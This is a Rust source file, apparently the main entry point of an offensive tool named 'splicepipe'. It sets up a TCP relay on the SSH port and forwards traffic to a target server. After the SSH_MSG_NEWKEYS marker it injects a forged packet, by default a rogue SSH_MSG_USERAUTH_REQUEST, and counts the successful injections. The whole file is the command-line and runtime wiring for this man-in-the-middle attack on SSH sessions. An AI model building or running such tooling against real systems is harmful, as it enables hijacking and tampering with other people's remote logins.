#![deny(bare_trait_objects)]

use failure::{err_msg, Error};
use log::{error, info, Level};
use splicepipe::config::Config;
use splicepipe::error::RelayError;
use splicepipe::net::Relay;
use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use structopt::StructOpt;
use tokio::prelude::*;
use tokio::runtime::Runtime;

#[derive(Debug, Clone, PartialEq, Eq, StructOpt)]
#[structopt(
    name = "splicepipe",
    about = "Relays TCP traffic and injects a forged message after a trigger marker"
)]
struct Opts {
    /// A JSON configuration file to load before applying the options below
    #[structopt(long = "config", parse(from_os_str))]
    config: Option<PathBuf>,

    /// The interface address to bind the relay to [default: 0.0.0.0]
    #[structopt(long = "proxy-ip")]
    proxy_ip: Option<IpAddr>,

    /// The port to bind the relay to [default: 22]
    #[structopt(long = "proxy-port")]
    proxy_port: Option<u16>,

    /// The IP address of the server to relay to
    #[structopt(long = "server-ip")]
    server_ip: Option<IpAddr>,

    /// The port of the server to relay to [default: 22]
    #[structopt(long = "server-port")]
    server_port: Option<u16>,

    /// The trigger marker as hex [default: SSH_MSG_NEWKEYS]
    #[structopt(long = "marker")]
    marker: Option<String>,

    /// The payload to inject as hex [default: rogue SSH_MSG_USERAUTH_REQUEST]
    #[structopt(long = "payload")]
    payload: Option<String>,

    /// Log more detail (-v for debug, -vv for every chunk relayed)
    #[structopt(short = "v", long = "verbose", parse(from_occurrences))]
    verbose: u8,
}

impl Opts {
    /// Load the configuration file, if any, and apply the command line
    /// overrides on top of it
    fn resolve(&self) -> Result<Config, RelayError> {
        let mut config = match &self.config {
            Some(path) => Config::load(path)?,
            None => Config::default(),
        };

        if let Some(ip) = self.proxy_ip {
            config.proxy_ip = ip;
        }
        if let Some(port) = self.proxy_port {
            config.proxy_port = port;
        }
        if let Some(ip) = self.server_ip {
            config.server_ip = Some(ip);
        }
        if let Some(port) = self.server_port {
            config.server_port = port;
        }
        if let Some(marker) = &self.marker {
            config.marker = Some(marker.clone());
        }
        if let Some(payload) = &self.payload {
            config.payload = Some(payload.clone());
        }

        Ok(config)
    }

    fn log_level(&self) -> Level {
        match self.verbose {
            0 => Level::Info,
            1 => Level::Debug,
            _ => Level::Trace,
        }
    }
}

fn main() -> Result<(), Error> {
    // parse command line arguments
    let opts: Opts = Opts::from_args();

    simple_logger::init_with_level(opts.log_level())
        .map_err(|e| err_msg(format!("error initializing logger: {}", e)))?;

    info!("--- splicepipe {} ---", env!("CARGO_PKG_VERSION"));

    let config = opts.resolve()?;
    let injection = config.injection().map_err(RelayError::from)?;
    let upstream = config.upstream_addr().map_err(RelayError::from)?;

    let relay = Relay::builder()
        .listen(config.listen_addr())
        .upstream(upstream)
        .injection(Arc::new(injection))
        .build()
        .map_err(RelayError::Builder)?;
    let stats = relay.stats();

    let relay = relay.bind()?;
    info!(
        "relay started, listening on {} for incoming connections, relaying to {}",
        relay.local_addr()?,
        upstream
    );

    let mut runtime = Runtime::new()?;

    // the first interrupt stops accepting, sessions keep running
    let interrupt = tokio_signal::ctrl_c()
        .flatten_stream()
        .into_future()
        .map(|_| info!("interrupted, no longer accepting connections"))
        .map_err(|(e, _)| error!("error waiting for interrupt: {}", e));

    let _ = runtime.block_on(relay.serve_until(interrupt));

    if stats.active() > 0 {
        info!(
            "waiting for {} sessions to finish, interrupt again to exit",
            stats.active()
        );

        let again = runtime
            .block_on(tokio_signal::ctrl_c())?
            .into_future()
            .map(|_| ())
            .map_err(|_| ());
        let _ = runtime.shutdown_on_idle().select(again).wait();
    }

    info!(
        "shutting down: {} sessions completed, {} with injection, {} upstream connection failures",
        stats.completed(),
        stats.injections(),
        stats.connect_failures()
    );

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::SocketAddr;

    #[test]
    fn test_cli_overrides_defaults() {
        let opts = Opts::from_iter(vec![
            "splicepipe",
            "--server-ip",
            "192.168.1.10",
            "--proxy-port",
            "2222",
            "--marker",
            "0000000c0a15",
            "-vv",
        ]);

        let config = opts.resolve().unwrap();
        assert_eq!(config.listen_addr(), "0.0.0.0:2222".parse::<SocketAddr>().unwrap());
        assert_eq!(config.upstream_addr().unwrap(), "192.168.1.10:22".parse::<SocketAddr>().unwrap());
        assert_eq!(config.marker, Some("0000000c0a15".to_string()));
        assert_eq!(opts.log_level(), Level::Trace);
    }

    #[test]
    fn test_server_ip_required() {
        let opts = Opts::from_iter(vec!["splicepipe"]);
        let config = opts.resolve().unwrap();

        assert!(config.upstream_addr().is_err());
        assert_eq!(opts.log_level(), Level::Info);
    }
}
